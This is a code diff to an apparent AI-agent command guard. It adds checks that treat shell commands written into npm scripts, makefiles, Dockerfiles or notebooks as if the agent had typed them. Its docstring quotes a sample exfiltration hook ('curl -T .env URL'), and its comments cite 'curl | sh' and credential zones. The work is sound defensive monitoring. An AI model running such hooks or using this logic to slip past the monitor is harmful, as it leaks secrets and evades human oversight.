@@ -425,6 +425,7 @@ def _decide(raw: bytes, opts: Options) -> Answer:
 def _judge(call: Mapping[str, Any], tool: str, command: str, opts: Options) -> Answer:
     monitor = load_monitor(opts, _session(call))
     command = with_settings_code(command, tool, call["tool_input"], monitor)
+    command = with_run_commands(command, tool, call["tool_input"], monitor, call["cwd"], opts)
     observation = observe(monitor, command, call["cwd"], opts)
     action_id = call.get("tool_use_id", "")
     remember = copies_veto(monitor, opts, call)    # an allow stands only once its copies are in the state
@@ -564,6 +565,72 @@ def with_settings_code(command: str, tool: str, tool_input: Mapping[str, Any], m
     texts = "\n".join([*_strings_in(tool_input), *(_edited(tool, tool_input, p) for p in paths)])
     keys = sorted({k for z in maps for k in z.code_settings(texts)})
     return f"{command} # {' '.join(keys)}" if keys else command
+
+
+# what a command a file holds may do that the project's own code run by a tool is not let do when typed: send, run
+# code the analysis cannot follow (not only a program it does not list: `mkdocs build`), run with sudo or pipe into a
+# shell, reach a zone outside the project. Only such a command is decided with the write: a recipe that builds,
+# tests or cleans the project adds nothing (`"clean": "rm -rf dist"` stays allowed). A Dockerfile's RUN runs in the
+# image (its paths, its packages, `curl | sh` there are the image's): only a send or unfollowed code counts
+_RUN_ZONES = ("ssh_keys", "cloud_credentials", "devices", "outside", "system_config", "home")
+_RECORDS = ("copies", "sends", "unfollowed", "background", "sourced")   # ShellExtractor's records by command text
+_UNLISTED = re.compile(r"unknown \('[^']*' is not in commands\.toml\)")
+
+
+def with_run_commands(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any, cwd: str,
+                      opts: Options) -> str:
+    """A file tool's command with the shell commands the file's new text holds for a tool to run later (npm's
+    scripts, make's recipes, a Dockerfile's RUN...: shell_run_files) that _reaches finds, each run in the file's
+    folder: the write is decided as if the agent had typed them (`"postinstall": "curl -T .env URL"`, then
+    `npm install`)."""
+    import shlex
+
+    from veriguard.enforce.shell_run_files import cell_commands, run_file_commands, run_file_kind
+
+    if tool not in WRITE + EDIT:
+        return command
+    found: list[str] = []
+    for path in dict.fromkeys(p for k in PATH_KEYS if isinstance(tool_input.get(k), str)
+                              for p in _and_real(tool_input[k])):
+        texts = ([t for t in (_edited(tool, tool_input, path),) if t] or _strings_in(
+            {k: v for k, v in tool_input.items() if k not in PATH_KEYS}))
+        cmds = ([c for t in texts for c in cell_commands(t)] if tool == "NotebookEdit" else
+                [c for t in texts for c in run_file_commands(path, t)])
+        folder = shlex.quote(os.path.dirname(path) or "/")
+        runs = [f"(cd -- {folder} && {{ {c}\n}})" for c in dict.fromkeys(cmds)]
+        image = run_file_kind(path) == "docker"
+        if runs and _reaches(monitor, " ; ".join(runs), cwd, opts, image=image):   # one reading of all, then each alone
+            found += runs if len(runs) == 1 else [r for r in runs if _reaches(monitor, r, cwd, opts, image=image)]
+    return f"{command} && {{ {' ; '.join(found)} ; }}" if found else command
+
+
+def _reaches(monitor: Any, command: str, cwd: str, opts: Options, *, image: bool) -> bool:
+    """Whether the commands (`command`) do what a typed command is not let do unasked (above), or cannot be read:
+    the extractors' reading alone, no decision and no log record. `image`: they run in a container image."""
+    from veriguard.enforce.extract_errors import ExtractionError
+
+    observation = observe(monitor, command, cwd, opts)
+    for x in monitor.extractors.values():
+        kept = {k: dict(v) for k, v in vars(x).items() if k in _RECORDS}    # the reading leaves no copy in the state
+        try:
+            got = x.extract(observation)
+        except ExtractionError:
+            return True
+        finally:
+            for k, v in kept.items():
+                getattr(x, k).clear()
+                getattr(x, k).update(v)
+        value = got.value
+        if isinstance(value, Mapping):
+            kind = value.get("kind")
+            if kind == "network" or (kind == "unknown" and _UNLISTED.sub("", str(got.how)).find("unknown (") >= 0):
+                return True
+            if not image and (value.get("sudo") is True or value.get("pipes_to_shell") is True):
+                return True
+        if not image and isinstance(value, list) and any(
+                isinstance(t, (list, tuple)) and len(t) == 2 and t[1] in _RUN_ZONES for t in value):
+            return True
+    return False
 
 
 def _edited(tool: str, tool_input: Mapping[str, Any], path: str) -> str:
